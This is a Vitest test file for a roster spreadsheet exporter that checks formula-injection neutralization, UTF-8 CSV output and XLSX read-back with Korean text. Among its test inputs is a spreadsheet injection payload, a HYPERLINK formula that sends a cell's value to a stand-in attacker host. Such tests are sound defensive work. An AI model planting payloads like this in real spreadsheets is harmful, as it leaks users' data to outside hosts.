import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { neutralizeFormula, toCsv, toXlsx, type SpreadsheetTable } from "@/lib/rosters/spreadsheet";
import { readCsv, readXlsx } from "@/lib/rosters/spreadsheet.test-helpers";

describe("neutralizeFormula", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+82 10-1234-5678", "'+82 10-1234-5678"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["\t=cmd", "'\t=cmd"],
    ["\r=cmd", "'\r=cmd"],
    ['=HYPERLINK("http://evil.example?"&A1,"보기")', `'=HYPERLINK("http://evil.example?"&A1,"보기")`],
  ])("prefixes %j with a single quote", (input, output) => {
    expect(neutralizeFormula(input)).toBe(output);
  });

  it.each(["김민지", "Songdo Biologics", "FT-2026-0101", "a=b", "1+1", "", " =1", "'=already"])(
    "leaves %j as it is",
    (input) => {
      expect(neutralizeFormula(input)).toBe(input);
    },
  );
});

const table: SpreadsheetTable = {
  header: ["이름", "Organization", "Position"],
  rows: [
    ["김민지", "송도바이오로직스", 1],
    ['=HYPERLINK("http://evil.example","click")', "+82 Corp, Ltd.", null],
    ['Line\nbreak and "quotes"', "@mention", 12],
  ],
};

describe("toCsv", () => {
  it("starts with a UTF-8 byte-order mark and ends records with CRLF", () => {
    const csv = toCsv(table);
    expect(Buffer.from(csv, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv.split("\r\n")[0]).toBe('\uFEFF"이름","Organization","Position"');
    expect(csv.endsWith("\r\n")).toBe(true);
  });

  it("reads back cell for cell, Korean intact, formulas neutralized", async () => {
    expect(await readCsv(toCsv(table))).toEqual([
      ["이름", "Organization", "Position"],
      ["김민지", "송도바이오로직스", "1"],
      [`'=HYPERLINK("http://evil.example","click")`, "'+82 Corp, Ltd.", ""],
      ['Line\nbreak and "quotes"', "'@mention", "12"],
    ]);
  });
});

describe("toXlsx", () => {
  it("reads back with exceljs: text, numbers, Korean, formulas neutralized, none stored as formula", async () => {
    const { sheet, rows } = await readXlsx(await toXlsx(table, "수강생 명단"));
    expect(sheet.name).toBe("수강생 명단");
    expect(rows).toEqual([
      ["이름", "Organization", "Position"],
      ["김민지", "송도바이오로직스", 1],
      [`'=HYPERLINK("http://evil.example","click")`, "'+82 Corp, Ltd.", null],
      ['Line\nbreak and "quotes"', "'@mention", 12],
    ]);
    sheet.eachRow((row) =>
      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)),
    );
    expect(sheet.getRow(1).font?.bold).toBe(true);
  });

  it("makes any sheet name valid", async () => {
    const { sheet } = await readXlsx(await toXlsx(table, "Roster: 2026/05 [draft] with a very long name"));
    expect(sheet.name).toBe("Roster  2026 05  draft  with a ");
  });
});
